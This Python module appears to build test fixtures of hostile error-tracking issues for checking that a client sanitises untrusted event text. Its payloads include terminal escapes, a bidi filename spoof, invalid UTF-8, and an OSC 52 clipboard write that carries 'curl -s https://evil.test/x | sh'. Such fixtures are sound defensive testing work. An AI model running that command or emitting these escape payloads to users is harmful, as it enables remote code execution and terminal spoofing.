"""Hostile text for the `hostile` data set.

Anyone with a public DSN can put bytes into an event, so titles, culprits,
metadata, tag values and even member names must be treated as hostile by the
client. Each issue below carries one family of attacks; the comment says what a
client that prints the text raw would suffer. Issue ids are fixed (4500000001..).
"""

import base64

from catalog import (JS_BREADCRUMB_EVENT, JS_SMALL_EVENT, PY_EVENT, Variant, error_title)

# JSON cannot carry invalid UTF-8, so strings contain this private-use marker and
# the HTTP layer replaces its UTF-8 encoding with the raw bytes FF FE in every
# response body (see splice_invalid_utf8). Everything else stays valid JSON.
INVALID_UTF8_MARKER = "\U000F0000"
INVALID_UTF8_BYTES = b"\xff\xfe"
_MARKER_BYTES = INVALID_UTF8_MARKER.encode("utf-8")


def splice_invalid_utf8(body):
    return body.replace(_MARKER_BYTES, INVALID_UTF8_BYTES) if _MARKER_BYTES in body else body


# ESC [ 2 J clears the screen; ESC ] 0 ; ... BEL sets the terminal window title.
SCREEN_CLEAR_AND_TITLE = "\x1b[2J\x1b]0;pwned\x07"
# ESC ] 52 ; c ; <base64> BEL asks the terminal to put text on the system clipboard.
CLIPBOARD_WRITE = "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.test/x | sh\n").decode() + "\x07"
# U+009B is the 8-bit (C1) form of CSI: "\u009b31m" turns text red on terminals
# that honour C1 controls, bypassing filters that only look for ESC.
C1_CSI_RED = "\u009b31m"
# U+202E RIGHT-TO-LEFT OVERRIDE and U+2066 LEFT-TO-RIGHT ISOLATE reorder what
# follows ("exe.fdp" is shown as "pdf.exe"); U+202C/U+2069 end them.
BIDI_SPOOF = "\u202efdp.exe\u202c and \u2066admin\u2069"
# Zero-width space, zero-width joiner and BOM: invisible, break width maths and search.
ZERO_WIDTH = "z\u200bero\u200dwidth\ufeff"
# Newline, carriage return, tab, backspace and DEL: break one-line rows and overwrite text.
LINE_BREAKERS = "line one\nline two\r\tTAB\bBS\x7fDEL"


def _long_title():
    head = "OperationalError: could not connect to server "
    filler = "(connection attempt timed out after 30s; retrying with backoff) "
    text = head + filler * (5000 // len(filler) + 1)
    return text[:5000]  # exactly 5000 characters


def _error(kind_project, platform, fixture, exc_type, value, module, function, filename, culprit):
    return Variant(
        kind="python_error" if platform == "python" else "javascript_error",
        project=kind_project, platform=platform, event_fixture=fixture,
        group_type="error", issue_type="error", category="error",
        title=error_title(exc_type, value), culprit=culprit,
        metadata={"type": exc_type, "value": value, "filename": filename, "function": function},
        level="error", exc_type=exc_type, exc_value=value, module=module, function=function,
        filename=filename, handled=False)


def hostile_issue_specs():
    """(variant, overrides) pairs; overrides are applied to the generated issue."""
    mallory = ("user", "666")
    specs = []

    # 1. Screen clear + window title in title, culprit and metadata; assigned to
    #    Mallory, whose member name carries the same escapes; hostile URL tag.
    value = f"Cannot read properties of undefined {SCREEN_CLEAR_AND_TITLE}(reading 'id')"
    variant = _error("frontend", "javascript", JS_BREADCRUMB_EVENT, "TypeError", value,
                     "src/components/UserCard", "renderUserCard", "/static/js/main.js",
                     f"renderUserCard(src/components/\x1b[31mUserCard\x1b[0m)")
    variant.title = SCREEN_CLEAR_AND_TITLE + variant.title
    specs.append((variant, {"level": "error", "assignee": mallory,
                            "url_tags": ["https://app.acme.test/" + SCREEN_CLEAR_AND_TITLE]}))

    # 2. Clipboard write (OSC 52) in the title and value; raw C1 CSI in the culprit
    #    and in metadata.function.
    value = f"copy me {CLIPBOARD_WRITE} please"
    variant = _error("backend", "python", PY_EVENT, "Error", value, "app.views",
                     f"checkout{C1_CSI_RED}", "app/views.py",
                     f"app.views in {C1_CSI_RED}checkout\u009b0m")
    specs.append((variant, {"level": "fatal"}))

    # 3. Invalid UTF-8: the bytes FF FE appear raw inside the title/value strings of
    #    every response that contains this issue (the body is no longer valid UTF-8).
    value = f"'utf-8' codec can't decode byte 0xff: {INVALID_UTF8_MARKER} end"
    variant = _error("backend", "python", PY_EVENT, "UnicodeDecodeError", value,
                     "imports.csv", "read_rows", "imports/csv.py",
                     f"imports.csv in read_rows{INVALID_UTF8_MARKER}")
    specs.append((variant, {"level": "warning"}))

    # 4. Bidi overrides/isolates and zero-width characters; assigned to Mallory.
    value = f"invoice {BIDI_SPOOF} {ZERO_WIDTH}"
    variant = _error("backend", "python", PY_EVENT, "Error", value, "payments.refunds",
                     "issue_refund", "payments/refunds.py",
                     "payments.refunds in \u202ednufer_eussi\u202c")
    specs.append((variant, {"level": "error", "assignee": mallory}))

    # 5. Newlines, CR, tab, backspace and DEL in the title (a row that would span
    #    several lines or overwrite itself) and a newline in the culprit.
    variant = _error("frontend", "javascript", JS_SMALL_EVENT, "ValueError", LINE_BREAKERS,
                     "src/api/client", "fetchJSON", "/static/js/main.js",
                     "fetchJSON(src/api/client)\nfake second line")
    variant.title = f"ValueError: {LINE_BREAKERS}"  # keep every line, not just the first
    specs.append((variant, {"level": "error"}))

    # 6. A 5000-character title (clipping, memory caps) and a 300-character culprit.
    title = _long_title()
    variant = _error("backend", "python", PY_EVENT, "OperationalError", title.split(": ", 1)[1],
                     "db.pool", "connect", "db/pool.py", "db.pool in connect " + "x" * 281)
    variant.title = title
    specs.append((variant, {"level": "error"}))

    # 7. Legitimate wide text that must render, not be stripped: CJK (double width),
    #    emoji (incl. a flag made of two regional indicators) and a combining accent.
    value = "データベース接続に失敗しました 🔥💥 🇯🇵 café\u0301"
    variant = _error("frontend", "javascript", JS_SMALL_EVENT, "例外が発生しました", value,
                     "src/pages/決済", "支払う", "/static/js/決済.js", "支払う(src/pages/決済)")
    specs.append((variant, {"level": "warning"}))
    return specs
